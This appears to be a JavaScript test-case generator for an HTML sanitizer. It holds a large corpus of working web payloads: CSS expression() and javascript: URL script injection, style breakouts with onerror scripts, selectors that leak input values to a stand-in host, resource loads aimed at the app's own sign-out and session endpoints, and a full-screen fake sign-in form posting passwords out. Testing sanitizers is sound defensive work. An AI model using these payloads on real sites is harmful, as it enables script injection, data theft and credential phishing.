// Rows 6-8: style sheets and style attributes that load, look, cover or run; and attributes that load without any style.

export function style({ js, to }) {
  const cases = [];
  const add = (row, name, html) => cases.push({ row, name, html });
  const jsUrl = js.replace(/["\\]/g, "");

  // ---- toward script
  add(6, "expression", `<div style="width:expression(${jsUrl})">x</div><style>p{x:expression(${jsUrl})}</style>`);
  add(
    6,
    "expression, broken by a comment",
    `<div style="width:exp/**/ression(${jsUrl})">x</div><div style="xss:\\65xpression(${jsUrl})">x</div>`,
  );
  add(6, "behavior and binding", `<div style="behavior:url(${to("htc")});-moz-binding:url(${to("xbl")}#x)">x</div>`);
  add(
    6,
    "javascript in url",
    `<div style="background:url('javascript:${jsUrl}')">x</div><div style="list-style:url(java\\script:${jsUrl})">x</div>`,
  );
  add(6, "style ends the style", `<style>p{content:"</style><img src=x onerror=${jsUrl}>"}</style>`);
  add(
    6,
    "style with comment markers",
    `<style><!-- </style><img src=x onerror=${jsUrl}> --></style><style>/* */</style/x><script>${js}</script>`,
  );
  add(
    6,
    "import",
    `<style>@import "${to("import")}";@import url(${to("import2")});@import url(data:text/css,@import%20url(${to("import3")}));</style>`,
  );
  add(
    6,
    "import, escaped",
    `<style>@\\69mport "${to("import4")}";@im\\port url(${to("import5")});@IMPORT/**/"${to("import6")}" layer(x) supports(display:block) screen;</style>`,
  );
  add(
    6,
    "import after an invalid rule",
    `<style>}{;@import "${to("import7")}";</style><style>@charset "utf-7";@import "${to("import8")}"</style>`,
  );
  add(6, "import in an attribute", `<div style="}@import '${to("import9")}';{">x</div>`);
  add(6, "font face", `<style>@font-face{font-family:x;src:url(${to("font")}),local(x)}*{font-family:x}</style>`);
  add(
    6,
    "namespace, property, page",
    `<style>@namespace url(${to("ns")});@property --x{syntax:"<url>";inherits:true;initial-value:url(${to("prop")})}@page{background:url(${to("page")})}p{background:var(--x)}</style><p>x</p>`,
  );
  add(
    6,
    "counter style, view transition, position",
    `<style>@counter-style x{system:cyclic;symbols:url(${to("counter")})}@view-transition{navigation:auto}@position-try --x{inset:0}li{list-style:x}</style><ul><li>x</ul>`,
  );
  add(
    6,
    "rules inside rules",
    `<style>p{color:red;&{background:url(${to("nested")})} @media all{background:url(${to("nested2")})} @supports (display:block){&{background:url(${to("nested3")})}}} @layer a{p{background:url(${to("layer")})}} @container (min-width:1px){p{background:url(${to("container")})}} @scope(body){p{background:url(${to("scope")})}} @starting-style{p{background:url(${to("starting")})}}</style><p>x</p>`,
  );
  add(
    6,
    "sheet by link and header",
    `<link rel=stylesheet href="${to("link")}"><link rel="alternate stylesheet" href="${to("link2")}"><meta http-equiv=Link content="<${to("link3")}>; rel=stylesheet">`,
  );
  add(
    6,
    "style with a type of its own",
    `<style type="text/less">p{background:url(${to("less")})}</style><style media="all" title=x>p{background:url(${to("media")})}</style><p>x</p>`,
  );
  add(6, "UTF-7 in a sheet", `<style>+ADw-/style+AD4-+ADw-script+AD4-${js}+ADw-/script+AD4-</style>`);
  add(
    6,
    "null octets and escapes",
    `<style>p{back\0ground:u\0rl(${to("null")});b\\61 ckground:\\75\\72\\6c(${to("esc")})}</style><p style="background:u\\72l(${to("esc2")})">x</p>`,
  );

  // ---- every property that can fetch, as attribute and as rule
  const properties = {
    background: (u) => u,
    "background-image": (u) => u,
    "border-image": (u) => `${u} 30 round`,
    "border-image-source": (u) => u,
    "list-style": (u) => u,
    "list-style-image": (u) => u,
    cursor: (u) => `${u},auto`,
    content: (u) => u,
    filter: (u) => u,
    "backdrop-filter": (u) => u,
    mask: (u) => u,
    "mask-image": (u) => u,
    "-webkit-mask-image": (u) => u,
    "-webkit-mask-box-image": (u) => u,
    "clip-path": (u) => u,
    "shape-outside": (u) => u,
    fill: (u) => u,
    stroke: (u) => u,
    marker: (u) => u,
    "offset-path": (u) => u,
    "-webkit-box-reflect": (u) => `below 0 ${u}`,
    src: (u) => u,
    "--x": (u) => `${u};background:var(--x)`,
    "background-position": (u) => `0 0;background:${u}`,
    animation: (u) => `x 1s;background-image:${u}`,
    "border-radius": (u) => `9px;background:${u}!important`,
  };
  for (const [name, value] of Object.entries(properties)) {
    const u = `url(${to(`p-${name}`)})`;
    add(
      7,
      `property ${name}`,
      `<p style="${name}:${value(u)}">x</p><style>b{${name}:${value(`url("${to(`r-${name}`)}")`)}} b::before{content:"x";${name}:${value(`url('${to(`q-${name}`)}')`)}}</style><b>x</b>`,
    );
  }
  const ways = {
    "escaped letters": (u) => `\\75rl(${u})`,
    "escaped with six digits": (u) => `\\000075\\000072\\00006c(${u})`,
    "upper case": (u) => `URL(${u})`,
    "comment before": (u) => `/**/url(${u})`,
    "blanks inside": (u) => `url( \n"${u}"\t)`,
    "never closed": (u) => `url(${u}`,
    "quote never closed": (u) => `url("${u}`,
    "image-set": (u) => `image-set("${u}" 1x, url(${u}) 2x)`,
    "-webkit-image-set": (u) => `-webkit-image-set(url(${u}) 1x)`,
    "cross-fade": (u) => `-webkit-cross-fade(url(${u}),url(${u}),50%)`,
    image: (u) => `image("${u}")`,
    element: (u) => `element(#x),url(${u})`,
    src: (u) => `src("${u}")`,
    "attr as url": (u) => `attr(data-u type(<url>)),url(${u})`,
    "no scheme": (u) => `url(${u.replace("http:", "")})`,
    backslashes: (u) => `url(${u.replace("//", "\\\\\\\\")})`,
    "paint worklet": (u) => `paint(x),url(${u})`,
    "light-dark": (u) => `light-dark(url(${u}),url(${u}))`,
    "if()": (u) => `if(style(--x): url(${u}); else: url(${u}))`,
  };
  for (const [how, value] of Object.entries(ways)) {
    add(
      7,
      `url ${how}`,
      `<p data-u="${to("attr")}" style='background:${value(to(`w-${how.replace(/\W/g, "")}`)).replace(/'/g, '"')}'>x</p><style>i{background:${value(to(`v-${how.replace(/\W/g, "")}`))}}</style><i>x</i>`,
    );
  }
  add(
    7,
    "var() carries the address",
    `<div style="--a:url(${to("var")})"><p style="background:var(--a)">x</p><p style="background:var(--none,url(${to("var2")}))">y</p></div>`,
  );
  add(
    7,
    "selectors that spell a value out",
    `<style>input[value^=a]{background:url(${to("leak-a")})}a[href*=secret]{background:url(${to("leak-b")})}:visited{background:url(${to("leak-c")})}:has(b){background:url(${to("leak-d")})}::first-line{background:url(${to("leak-e")})}:root{background:url(${to("leak-f")})}html{background:url(${to("leak-g")})}body{background:url(${to("leak-h")})}</style><input value=abc><a href="/secret">x</a>`,
  );
  add(
    7,
    "pseudo elements",
    `<style>*::marker{content:url(${to("marker")})}*::before{content:url(${to("before")})}::selection{background:url(${to("selection")})}::-webkit-scrollbar{background:url(${to("scrollbar")})}::backdrop{background:url(${to("backdrop")})}::view-transition{background:url(${to("vt")})}</style><ul><li>x</ul>`,
  );
  add(
    7,
    "key frames",
    `<style>@keyframes x{0%{background:url(${to("key")})}100%{background:url(${to("key2")})}}p{animation:x 1ms infinite}</style><p>x</p>`,
  );

  // ---- attributes that load without any style
  const loads = {
    "img src": (u) => `<img src="${u}">`,
    "img without scheme": (u) => `<img src="${u.replace("http:", "")}">`,
    "img with blanks and backslashes": (u) => `<img src=" ${u.replace("//", "\\\\")}">`,
    "img over https": (u) => `<img src="${u.replace("http:", "https:")}">`,
    "img lazy": (u) => `<img loading=lazy src="${u}" width=1 height=1>`,
    srcset: (u) => `<img srcset="${u} 1x, ${u}-2 2x" src="data:,">`,
    imagesrcset: (u) => `<link rel=preload as=image imagesrcset="${u} 1x" href="${u}">`,
    picture: (u) => `<picture><source srcset="${u}" media="(min-width:1px)"><img alt=x></picture>`,
    lowsrc: (u) => `<img lowsrc="${u}" dynsrc="${u}" longdesc="${u}" usemap="${u}#m">`,
    "body background": (u) => `<body background="${u}">x`,
    "table background": (u) => `<table background="${u}"><tr background="${u}"><td background="${u}">x</table>`,
    "input image": (u) => `<input type=image src="${u}">`,
    video: (u) => `<video src="${u}" poster="${u}-p" autoplay preload=auto></video>`,
    audio: (u) => `<audio src="${u}" autoplay></audio>`,
    "source and track": (u) => `<video autoplay><source src="${u}"><track default kind=subtitles src="${u}-t"></video>`,
    iframe: (u) => `<iframe src="${u}"></iframe>`,
    object: (u) => `<object data="${u}"></object>`,
    embed: (u) => `<embed src="${u}">`,
    frame: (u) => `<frameset><frame src="${u}"></frameset>`,
    applet: (u) => `<applet codebase="${u}" code=x></applet>`,
    bgsound: (u) => `<bgsound src="${u}">`,
    layer: (u) => `<layer src="${u}"></layer><ilayer src="${u}"></ilayer>`,
    "link prefetch": (u) =>
      `<link rel=prefetch href="${u}"><link rel=preload as=fetch href="${u}"><link rel=prerender href="${u}">`,
    "link preconnect": (u) =>
      `<link rel=preconnect href="${u}"><link rel=dns-prefetch href="${u.replace("c.example", "dns.c.example")}">`,
    "link icon": (u) =>
      `<link rel=icon href="${u}"><link rel=apple-touch-icon href="${u}"><link rel=manifest href="${u}"><link rel=pingback href="${u}">`,
    "link by import": (u) => `<link rel=import href="${u}"><link rel=serviceworker href="${u}">`,
    "html manifest": (u) => `<html manifest="${u}"><body>x`,
    "a ping": (u) => `<a href="${u}" ping="${u}-ping">x</a><area href="${u}" ping="${u}">`,
    attributionsrc: (u) => `<img attributionsrc="${u}" src="data:,"><a attributionsrc="${u}" href="#">x</a>`,
    "xml stylesheet": (u) => `<?xml-stylesheet href="${u}"?><p>x`,
    "command icon": (u) => `<menuitem icon="${u}"><command icon="${u}">`,
    "html:img": (u) =>
      `<html:img src="${u}"/><v:rect><v:fill src="${u}"/></v:rect><v:imagedata src="${u}" o:href="${u}"/>`,
    "ins and blockquote cite": (u) => `<ins cite="${u}">x</ins><blockquote cite="${u}">y</blockquote>`,
    "form with image button": (u) => `<form action="${u}"><input type=image src="${u}" formaction="${u}"></form>`,
    "math and svg": (u) => `<math><mglyph src="${u}"/></math><svg><image href="${u}"/></svg>`,
    "sizes auto": (u) => `<img sizes="auto" loading=lazy srcset="${u} 100w">`,
    portal: (u) => `<portal src="${u}"></portal>`,
    model: (u) => `<model><source src="${u}"></model>`,
    "image to our own doors": () =>
      '<img src="/auth/sign-out"><img src="/jmap/api"><img src="/pictures/fetch?u=http%3A%2F%2Fc.example%2Fown"><img src="/assets/../auth/session"><video src="/jmap/events?types=*"></video>',
  };
  for (const [how, html] of Object.entries(loads)) add(7, `load by ${how}`, html(to(`l-${how.replace(/\W/g, "")}`)));

  // ---- covers
  const cover = "top:0;left:0;right:0;bottom:0;width:100vw;height:100vh;z-index:2147483647;background:#fff";
  add(
    8,
    "position fixed",
    `<div style="position:fixed;${cover}"><h1>Sign in again</h1><form action="${to("phish")}"><input name=p type=password></form></div>`,
  );
  add(
    8,
    "position sticky and absolute",
    `<div style="position:sticky;${cover}">x</div><div style="position:absolute;${cover}">y</div><div style="position:-webkit-sticky!important;${cover}">z</div>`,
  );
  add(
    8,
    "negative margins",
    `<div style="margin:-9999px;padding:9999px;background:#fff">x</div><div style="margin-top:-400px;transform:translate(-300px,-300px) scale(9)">y</div>`,
  );
  add(
    8,
    "important everywhere",
    "<style>*{position:fixed!important;inset:0!important;opacity:0!important;pointer-events:all!important;font-size:0!important}</style><p>x</p>",
  );
  add(8, "cursor that lies", `<style>*{cursor:none!important}html{cursor:url(${to("cursor2")}),none}</style><p>x</p>`);
  add(
    8,
    "top layer",
    '<dialog open style="position:fixed;inset:0">x</dialog><div popover=manual>y</div><video controls autoplay></video>',
  );
  add(
    8,
    "very large",
    '<div style="width:99999999px;height:99999999px">x</div><p style="font-size:99999px">y</p><img width=99999999 height=99999999 alt="">',
  );
  add(8, "very many", `${"<p>".repeat(20000)}x`);
  add(
    8,
    "writing direction turned",
    '<div style="direction:rtl;unicode-bidi:bidi-override;writing-mode:vertical-rl">elpmaxe.live</div><bdo dir=rtl>moc.elpmaxe</bdo>',
  );
  add(
    8,
    "zoomed and blurred",
    "<style>html{zoom:900%;filter:blur(9px);transform:rotate(180deg)}body{animation:x 1s infinite}@keyframes x{to{margin-left:900px}}</style><p>x</p>",
  );
  return cases;
}
